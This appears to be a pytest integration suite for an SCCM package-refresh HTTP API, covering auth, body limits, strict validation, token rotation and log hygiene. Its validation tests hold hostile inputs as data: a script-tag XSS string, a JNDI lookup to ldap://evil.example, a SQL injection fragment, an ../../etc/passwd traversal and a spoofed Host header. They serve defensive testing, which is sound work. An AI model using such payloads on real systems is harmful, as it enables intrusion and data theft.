"""The HTTP API's edges against a real uvicorn process and a real Redis (no worker needed).

Authentication (401/403), size limits (413), strict input (422 naming each field, never echoing
what was sent), idempotency input, the event-stream cap, a broker outage (503), the access log,
and how the server refuses to start without authentication.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from api.tokens import token_line
from embedded.redis_server import RedisServer
from testing.fixtures_api import (
    READ_TOKEN,
    SUBMIT_TOKEN,
    ApiServer,
    api_environment,
    iter_sse,
    write_token_file,
)
from testing.waiting import wait_until

pytestmark = pytest.mark.integration

MAX_BODY_BYTES = 4096
MAX_PACKAGES = 5
MAX_STREAMS = 2
GOOD_ITEM = {"site_code": "PS1", "package_id": "PS100012"}


@pytest.fixture(scope="module")
def tokens_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_token_file(
        tmp_path_factory.mktemp("tokens") / "tokens",
        {"svc-submit": (SUBMIT_TOKEN, "submit"), "svc-read": (READ_TOKEN, "read")},
    )


def start_api(
    redis_url: str, log_dir: Path, *, extra: dict[str, str] | None = None, args: tuple[str, ...] = ()
) -> ApiServer:
    prefix = f"t-{uuid.uuid4().hex[:8]}"
    env = api_environment(redis_url=redis_url, key_prefix=prefix, queue=f"q-{prefix}", extra=extra)
    return ApiServer(env, log_dir / f"api-{prefix}.log", args=args).start()


@pytest.fixture(scope="module")
def api(redis_server: RedisServer, tokens_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApiServer]:
    """An API with small limits, on the session Redis (database 0, own prefix and queue)."""
    server = start_api(
        redis_server.url,
        tmp_path_factory.mktemp("api"),
        extra={
            "SCCM_REFRESH_API__TOKEN_FILE": str(tokens_file),
            "SCCM_REFRESH_API__MAX_BODY_BYTES": str(MAX_BODY_BYTES),
            "SCCM_REFRESH_API__MAX_PACKAGES_PER_REQUEST": str(MAX_PACKAGES),
            "SCCM_REFRESH_API__MAX_EVENT_STREAMS": str(MAX_STREAMS),
        },
    )
    yield server
    server.stop()


@pytest.fixture
def submitter(api: ApiServer) -> Iterator[httpx.Client]:
    with api.client(SUBMIT_TOKEN) as client:
        yield client


def test_health_is_open_and_readiness_reports_no_worker(api: ApiServer) -> None:
    """/healthz and /readyz need no token; without a worker on the queue, /readyz is 503 not_ready."""
    with api.client() as client:
        assert client.get("/healthz").json() == {"status": "ok"}
        ready = client.get("/readyz")
    assert ready.status_code == 503
    assert ready.json()["status"] == "not_ready" and ready.json()["redis"] and ready.json()["workers"] == 0


@pytest.mark.parametrize(
    "authorization",
    [None, "Bearer not-a-known-token-0000000", f"Basic {SUBMIT_TOKEN}", "Bearer", f"bearer  {SUBMIT_TOKEN}x"],
)
def test_a_missing_or_unknown_token_is_401_with_a_bearer_challenge(api: ApiServer, authorization: str | None) -> None:
    """No token, an unknown one, or another scheme: 401 and WWW-Authenticate: Bearer, for reads and writes."""
    headers = {"Authorization": authorization} if authorization else {}
    with api.client() as client:
        for method, path in (("GET", "/v1/refreshes/abc"), ("POST", "/v1/refreshes"), ("GET", "/v1/events")):
            response = client.request(method, path, headers=headers, json={"packages": [GOOD_ITEM]})
            assert response.status_code == 401, (method, path, response.text)
            assert response.headers["WWW-Authenticate"].startswith("Bearer")
            assert response.json()["detail"]


def test_a_read_token_cannot_submit(api: ApiServer) -> None:
    """Role `read` gets 403 on POST routes; the same token reads."""
    with api.client(READ_TOKEN) as client:
        assert client.post("/v1/refreshes", json={"packages": [GOOD_ITEM]}).status_code == 403
        assert client.get("/v1/refreshes/abc").status_code == 404


def test_a_declared_oversized_body_is_413_before_it_is_sent(api: ApiServer) -> None:
    """Content-Length over the limit: 413 at once, while the client has not sent a byte of the body."""
    host, port = api.url.removeprefix("http://").rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(
            b"POST /v1/refreshes HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            + f"Authorization: Bearer {SUBMIT_TOKEN}\r\nContent-Length: 1000000000\r\n\r\n".encode()
        )
        reply = conn.recv(4096).decode()
    assert reply.startswith("HTTP/1.1 413"), reply[:200]


def test_a_chunked_body_is_cut_off_with_413_once_past_the_limit(submitter: httpx.Client) -> None:
    """No Content-Length: the body is counted while read and refused once it passes the limit."""

    def chunks() -> Iterator[bytes]:
        yield b'{"packages": ['
        for _ in range(MAX_BODY_BYTES // 40 + 10):
            yield b'{"site_code": "PS1", "package_id": "PS100012"},'
        yield b"]}"

    response = submitter.post("/v1/refreshes", content=chunks(), headers={"Content-Type": "application/json"})
    assert response.status_code == 413
    assert str(MAX_BODY_BYTES) in response.json()["detail"]


def test_more_packages_than_allowed_is_422_naming_the_field(submitter: httpx.Client) -> None:
    """Past api.max_packages_per_request: 422 on body.packages, nothing enqueued."""
    response = submitter.post("/v1/refreshes", json={"packages": [GOOD_ITEM] * (MAX_PACKAGES + 1)})
    assert response.status_code == 422
    [error] = response.json()["detail"]
    assert error["loc"] == ["body", "packages"] and str(MAX_PACKAGES) in error["msg"]


HOSTILE = "<script>alert(1)</script>"
JNDI = "${jndi:ldap://evil.example/a}"


def test_bad_fields_are_422_naming_each_without_echoing_the_values(submitter: httpx.Client) -> None:
    """Unknown keys, wrong JSON types, broken rules: each named; no value sent comes back."""
    body = {
        "packages": [
            {"site_code": HOSTILE, "package_id": "PS100012", JNDI: 1},
            {"site_code": "PS1", "package_id": "PS1' OR 1=1", "verify": "true", "force": 1},
            {"site_code": "PS1", "package_id": "PS100012", "request_id": "../../etc/passwd", "package_class": JNDI},
        ],
        "extra": HOSTILE,
    }
    response = submitter.post("/v1/refreshes", json=body)
    assert response.status_code == 422
    locs = {tuple(e["loc"]) for e in response.json()["detail"]}
    assert {
        ("body", "packages", 0, "site_code"),
        ("body", "packages", 0, "<key>"),
        ("body", "packages", 1, "package_id"),
        ("body", "packages", 1, "verify"),
        ("body", "packages", 1, "force"),
        ("body", "packages", 2, "request_id"),
        ("body", "packages", 2, "package_class"),
        ("body", "extra"),
    } <= locs
    for value in (HOSTILE, JNDI, "OR 1=1", "etc/passwd", "alert"):
        assert value not in response.text
    assert "input" not in response.text


@pytest.mark.parametrize(
    ("content", "content_type"),
    [(b'{"packages": [', "application/json"), (b"\xff\xfe", "application/json"), (b"[]", "application/json")],
)
def test_broken_json_is_422_not_a_server_error(submitter: httpx.Client, content: bytes, content_type: str) -> None:
    """Truncated, undecodable or misshapen JSON: 422 with the body named."""
    response = submitter.post("/v1/refreshes", content=content, headers={"Content-Type": content_type})
    assert response.status_code == 422, response.text
    assert response.json()["detail"][0]["loc"][0] == "body"


def test_repeated_request_ids_in_one_call_are_422(submitter: httpx.Client) -> None:
    """Two items with one request_id: 422 on the second, nothing enqueued."""
    item = {**GOOD_ITEM, "request_id": "same-id"}
    response = submitter.post("/v1/refreshes", json={"packages": [item, {**item, "package_id": "PS100013"}]})
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["body", "packages", 1, "request_id"]


def test_bad_ids_in_path_query_and_headers_are_422(submitter: httpx.Client) -> None:
    """Request id, site code, package id, stream ids and Idempotency-Key are checked like body fields."""
    cases = [
        submitter.get("/v1/refreshes/bad$id"),
        submitter.get("/v1/sites/P-1/packages/PS100012"),
        submitter.get("/v1/sites/PS1/packages/PS1ZZZZZ"),
        submitter.get("/v1/events", params={"request_id": "a b"}),
        submitter.get("/v1/events", headers={"Last-Event-ID": "nope"}),
        submitter.post("/v1/refreshes", json={"packages": [GOOD_ITEM]}, headers={"Idempotency-Key": "k" * 300}),
    ]
    expected = [
        ["path", "request_id"],
        ["path", "site_code"],
        ["path", "package_id"],
        ["query", "request_id"],
        ["header", "Last-Event-ID"],
        ["header", "Idempotency-Key"],
    ]
    for response, loc in zip(cases, expected, strict=True):
        assert response.status_code == 422, (loc, response.text)
        assert response.json()["detail"][0]["loc"] == loc


def test_event_streams_beyond_the_cap_get_503_until_one_closes(api: ApiServer) -> None:
    """api.max_event_streams open streams: the next gets 503 with Retry-After; closing one frees its slot."""
    with api.client(READ_TOKEN) as first, api.client(READ_TOKEN) as second, api.client(READ_TOKEN) as third:
        streams = [iter_sse(client, "/v1/events", deadline_s=30) for client in (first, second)]
        for stream in streams:
            next(stream)
        refused = third.get("/v1/events")
        assert refused.status_code == 503 and "Retry-After" in refused.headers
        streams[0].close()
        # The server notices the disconnect on its own schedule: poll for the freed slot.
        reopened: list[object] = []

        def reopen() -> bool:
            stream = iter_sse(third, "/v1/events", deadline_s=30)
            try:
                next(stream)
            except httpx.HTTPStatusError:
                return False
            reopened.append(stream)
            return True

        assert wait_until(reopen, timeout_s=10, poll_s=0.2)
        streams[1].close()


def test_the_access_log_holds_route_templates_but_no_token_id_or_query(api: ApiServer) -> None:
    """Method, route template, status, duration: no token, package id, request id or query string."""
    marker = f"corr{uuid.uuid4().hex[:8]}"
    with api.client(SUBMIT_TOKEN) as client:
        client.get("/v1/sites/PS1/packages/PS10ABCD")
        client.get(f"/v1/refreshes/{marker}")
        client.get("/v1/events", params={"correlation_id": marker, "after": "nope"})
        client.post("/v1/refreshes", json={"packages": [{"site_code": "PS1", "package_id": "PS10ABCE"}]})
    assert wait_until(lambda: "/v1/refreshes/{request_id}" in api.log(), timeout_s=5)
    log = api.log()
    assert "GET /v1/sites/{site_code}/packages/{package_id} 404" in log
    assert "caller=svc-submit client=127.0.0.1:" in log
    for secret in (SUBMIT_TOKEN, READ_TOKEN, "PS10ABCD", "PS10ABCE", marker, "after=", "nope"):
        assert secret not in log


def test_a_broker_outage_is_a_quick_503(redis_server: RedisServer, tokens_file: Path, tmp_path: Path) -> None:
    """Broker unreachable: POST answers 503 with Retry-After within seconds; /readyz says broker false."""
    dead = socket.socket()
    dead.bind(("127.0.0.1", 0))
    dead_url = f"redis://127.0.0.1:{dead.getsockname()[1]}/0"
    dead.close()
    server = start_api(
        redis_server.url,
        tmp_path,
        extra={"SCCM_REFRESH_API__TOKEN_FILE": str(tokens_file), "SCCM_REFRESH_BROKER_URL": dead_url},
    )
    try:
        with server.client(SUBMIT_TOKEN, timeout=30) as client:
            started = time.monotonic()
            response = client.post("/v1/refreshes", json={"packages": [GOOD_ITEM]})
            took_s = time.monotonic() - started
            ready = client.get("/readyz")
        assert response.status_code == 503 and "Retry-After" in response.headers, response.text
        assert "0 of 1" in response.json()["detail"]
        assert took_s < 10
        assert ready.status_code == 503 and ready.json()["broker"] is False and ready.json()["redis"] is True
    finally:
        server.stop()


def test_tokens_rotate_without_a_restart_and_a_bad_file_still_revokes(
    redis_server: RedisServer, tmp_path: Path
) -> None:
    """A good file takes over; a bad one revokes the lines it lost, adds nothing, shows in /readyz and /metrics."""
    rotated = "rotated-token-7d41c9e2b05a8f3e"
    added = "added-token-b8c1e4f70a2d9e35"
    token_path = write_token_file(tmp_path / "tokens", {"svc-submit": (SUBMIT_TOKEN, "submit")})
    server = start_api(
        redis_server.url,
        tmp_path,
        extra={"SCCM_REFRESH_API__TOKEN_FILE": str(token_path), "SCCM_REFRESH_API__TOKEN_RELOAD_S": "0.2"},
    )

    def status_with(token: str) -> int:
        with server.client(token) as client:
            return client.get("/v1/refreshes/no-such-request").status_code

    try:
        assert status_with(SUBMIT_TOKEN) == 404 and status_with(rotated) == 401
        write_token_file(token_path, {"svc-rotated": (rotated, "read"), "svc-submit": (SUBMIT_TOKEN, "submit")})
        assert wait_until(lambda: status_with(rotated) == 404, timeout_s=10), "the rotated token was never accepted"
        # Revoke svc-submit, add a token, and make a typo: the revocation holds, the addition does not.
        text = token_path.read_text(encoding="utf-8")
        kept = [line for line in text.splitlines() if line.endswith(" svc-rotated")]
        token_path.write_text(
            "\n".join([*kept, token_line(added, "submit", "svc-added"), f"plain-{rotated} read oops"]) + "\n",
            encoding="utf-8",
        )
        # The file is looked at on requests: keep asking until the bad version has been seen.
        assert wait_until(lambda: status_with(SUBMIT_TOKEN) == 401, timeout_s=10), server.log()[-2000:]
        assert status_with(rotated) == 404 and status_with(added) == 401
        with server.client(rotated) as client:
            assert client.get("/readyz").json()["token_file_ok"] is False
            assert "sccm_refresh_api_token_file_ok 0.0" in client.get("/metrics").text
        assert f"plain-{rotated}" not in server.log() and "line 3" in server.log()
        write_token_file(token_path, {"svc-rotated": (rotated, "read"), "svc-added": (added, "submit")})
        assert wait_until(lambda: status_with(added) == 404, timeout_s=10)
        with server.client(rotated) as client:
            assert client.get("/readyz").json()["token_file_ok"] is True
    finally:
        server.stop()


def test_a_fifo_in_place_of_the_token_file_blocks_no_request(redis_server: RedisServer, tmp_path: Path) -> None:
    """The token file replaced by a FIFO: /healthz and authenticated reads still answer at once."""
    token_path = write_token_file(tmp_path / "tokens", {"svc-submit": (SUBMIT_TOKEN, "submit")})
    server = start_api(
        redis_server.url,
        tmp_path,
        extra={"SCCM_REFRESH_API__TOKEN_FILE": str(token_path), "SCCM_REFRESH_API__TOKEN_RELOAD_S": "0.2"},
    )
    try:
        token_path.unlink()
        os.mkfifo(token_path)
        with server.client(SUBMIT_TOKEN, timeout=1.0) as client:
            for _ in range(10):
                assert client.get("/healthz").status_code == 200
                assert client.get("/v1/refreshes/x").status_code in (401, 404)
                time.sleep(0.1)
        assert wait_until(lambda: "not a regular file" in server.log(), timeout_s=5)
    finally:
        server.stop()


def test_without_a_token_file_the_server_refuses_to_start(redis_server: RedisServer, tmp_path: Path) -> None:
    """No token file: one line naming the setting, exit 2; --insecure-no-auth off loopback is refused too."""
    env = api_environment(redis_url=redis_server.url, key_prefix="t-refuse", queue="q-refuse")
    for args in (["api", "--port", "0"], ["api", "--port", "0", "--host", "0.0.0.0", "--insecure-no-auth"]):  # noqa: S104 - refused
        result = subprocess.run(
            [sys.executable, "-m", "cli.main", *args], env=env, capture_output=True, text=True, timeout=60, check=False
        )
        assert result.returncode == 2, result.stderr
        assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    bad = tmp_path / "tokens"
    bad.write_text(f"sha256:{'0' * 64} submit ok\nplain-{SUBMIT_TOKEN} submit leaked\n", encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "cli.main", "api", "--port", "0", "--token-file", str(bad)],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2 and "line 2" in result.stderr
    assert SUBMIT_TOKEN not in result.stderr


def test_hash_token_prints_a_line_the_server_accepts(redis_server: RedisServer, tmp_path: Path) -> None:
    """`api hash-token` reads the token on stdin; the line it prints authenticates that token."""
    token = f"tok-{uuid.uuid4().hex}"
    result = subprocess.run(
        [sys.executable, "-m", "cli.main", "api", "hash-token", "--role", "read", "--name", "ops"],
        input=token + "\n",
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("sha256:") and result.stdout.split()[1:] == ["read", "ops"]
    assert token not in result.stdout
    (tmp_path / "tokens").write_text(result.stdout, encoding="utf-8")
    server = start_api(redis_server.url, tmp_path, args=("--token-file", str(tmp_path / "tokens")))
    try:
        with server.client(token) as client:
            assert client.get("/v1/refreshes/abc").status_code == 404
            assert client.post("/v1/refreshes", json={"packages": [GOOD_ITEM]}).status_code == 403
    finally:
        server.stop()
    weak = subprocess.run(
        [sys.executable, "-m", "cli.main", "api", "hash-token", "--role", "read", "--name", "ops"],
        input="short\n",
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert weak.returncode == 2 and "Traceback" not in weak.stderr


def test_insecure_no_auth_on_loopback_serves_without_tokens(redis_server: RedisServer, tmp_path: Path) -> None:
    """--insecure-no-auth on 127.0.0.1: /v1 routes answer without a token (and the log warns)."""
    server = start_api(redis_server.url, tmp_path, args=("--insecure-no-auth",))
    try:
        with server.client() as client:
            response = client.post("/v1/refreshes", json={"packages": [GOOD_ITEM]})
        assert response.status_code == 202, response.text
        assert "authentication is OFF" in server.log()
    finally:
        server.stop()


def test_internal_fields_and_an_unforced_task_sequence_are_422(submitter: httpx.Client) -> None:
    """package_hint, requested_at and retry_state are the system's own; a task sequence needs force."""
    for extra, loc in (
        ({"package_hint": {"source_version": 0, "name": "<script>"}}, ["body", "packages", 0, "package_hint"]),
        ({"requested_at": "2026-01-01T00:00:00Z"}, ["body", "packages", 0, "requested_at"]),
        ({"retry_state": {"attempts": 1}}, ["body", "packages", 0, "retry_state"]),
        ({"package_class": "SMS_TaskSequencePackage"}, ["body", "packages", 0, "force"]),
        ({"request_id": "r" * 64}, ["body", "packages", 0, "request_id"]),
    ):
        response = submitter.post("/v1/refreshes", json={"packages": [{**GOOD_ITEM, **extra}]})
        assert response.status_code == 422, (extra, response.text)
        assert [e["loc"] for e in response.json()["detail"]] == [loc]
    forced = {**GOOD_ITEM, "package_class": "SMS_TaskSequencePackage", "force": True, "request_id": "r" * 63}
    assert submitter.post("/v1/refreshes", json={"packages": [forced]}).status_code == 202


def test_redistribute_failed_is_a_boolean_asked_with_until_distributed(submitter: httpx.Client) -> None:
    """`redistribute_failed` only means something while following to every DP: with another `until`,
    or as a string, 422 naming it; with until=distributed, accepted."""
    for extra in (
        {"redistribute_failed": True},
        {"redistribute_failed": True, "until": "source_updated"},
        {"redistribute_failed": "true", "until": "distributed"},
    ):
        response = submitter.post("/v1/refreshes", json={"packages": [{**GOOD_ITEM, **extra}]})
        assert response.status_code == 422, (extra, response.text)
        assert "redistribute_failed" in response.text
    asked = {**GOOD_ITEM, "until": "distributed", "redistribute_failed": True}
    assert submitter.post("/v1/refreshes", json={"packages": [asked]}).status_code == 202


def test_a_body_with_a_hundred_thousand_unknown_keys_is_one_quick_error(
    redis_server: RedisServer, tokens_file: Path, tmp_path: Path
) -> None:
    """Under the default 2 MiB limit, 100,000 unknown keys: one 422 for the object, not one per key."""
    server = start_api(redis_server.url, tmp_path, extra={"SCCM_REFRESH_API__TOKEN_FILE": str(tokens_file)})
    many = {f"k{i}": 1 for i in range(100_000)}
    try:
        with server.client(SUBMIT_TOKEN) as client:
            client.get("/healthz")  # connected and warm
            started = time.monotonic()
            response = client.post("/v1/refreshes", json={"packages": [many]})
            took_s = time.monotonic() - started
    finally:
        server.stop()
    assert response.status_code == 422, response.text[:300]
    assert [e["loc"] for e in response.json()["detail"]] == [["body", "packages", 0]]
    # One error (above) is what shows the keys are not checked one by one; the time bound only
    # catches a pathological path, generous because the suite shares a small machine.
    assert took_s < 5.0, took_s


def test_bulk_list_fields_are_422_without_echoing_the_items(submitter: httpx.Client) -> None:
    """A bad class, PackageID or flag inside a list: the list is named, the item sent is not repeated."""
    for body in (
        {"site_code": "PS1", "package_classes": [HOSTILE]},
        {"site_code": "PS1", "package_ids": ["PS1' OR 1=1"]},
        {"site_code": "PS1", "exclude_package_ids": [JNDI]},
        {"site_code": "PS1", "pkg_source_flags": [99]},
    ):
        response = submitter.post("/v1/bulk-refreshes", json=body)
        assert response.status_code == 422, response.text
        for value in (HOSTILE, "OR 1=1", JNDI, "99", "alert"):
            assert value not in response.text


def test_an_idempotent_replay_repeats_the_location_header(submitter: httpx.Client) -> None:
    """The replayed 202 carries the first answer's Location as well as its body."""
    key = f"loc-{uuid.uuid4()}"
    body = {"packages": [{**GOOD_ITEM, "request_id": f"loc-{uuid.uuid4().hex[:8]}"}]}
    first = submitter.post("/v1/refreshes", json=body, headers={"Idempotency-Key": key})
    again = submitter.post("/v1/refreshes", json=body, headers={"Idempotency-Key": key})
    assert first.status_code == again.status_code == 202
    assert again.headers["Location"] == first.headers["Location"] and again.headers["Idempotent-Replayed"] == "true"


def test_a_trailing_slash_is_404_not_a_redirect_built_from_the_host_header(submitter: httpx.Client) -> None:
    """No redirect that would echo the Host header the client sent."""
    response = submitter.get("/v1/refreshes/", headers={"Host": "evil.example"})
    assert response.status_code == 404 and "Location" not in response.headers
    assert "evil.example" not in response.text


def test_the_docs_page_pins_swagger_ui_and_checks_its_files(api: ApiServer) -> None:
    """/docs names one Swagger UI version and carries a sha384 integrity hash for each file it loads."""
    with api.client() as client:
        page = client.get("/docs").text
    assert page.count('integrity="sha384-') == 2 and page.count('crossorigin="anonymous"') == 2
    assert "swagger-ui-dist@5/" not in page and "swagger-ui-dist@5." in page


def test_a_dry_run_bulk_says_so_from_the_start(submitter: httpx.Client) -> None:
    """GET right after the POST (no worker has run it): dry_run is already true."""
    started = submitter.post("/v1/bulk-refreshes", json={"site_code": "PS1", "dry_run": True})
    assert started.status_code == 202, started.text
    status = submitter.get(started.headers["Location"]).json()
    assert status["state"] == "enumerating" and status["dry_run"] is True


def test_a_read_tokens_bad_json_post_is_403_and_two_authorization_headers_are_401(api: ApiServer) -> None:
    """The role is checked before the body is parsed; two Authorization headers are not guessed between."""
    with api.client(READ_TOKEN) as client:
        refused = client.post("/v1/refreshes", content=b"{not json", headers={"Content-Type": "application/json"})
    assert refused.status_code == 403, refused.text
    with api.client() as client:
        doubled = client.get(
            "/v1/refreshes/abc",
            headers=[("Authorization", f"Bearer {SUBMIT_TOKEN}"), ("Authorization", f"Bearer {READ_TOKEN}")],
        )
    assert doubled.status_code == 401 and 'error="invalid_request"' in doubled.headers["WWW-Authenticate"]
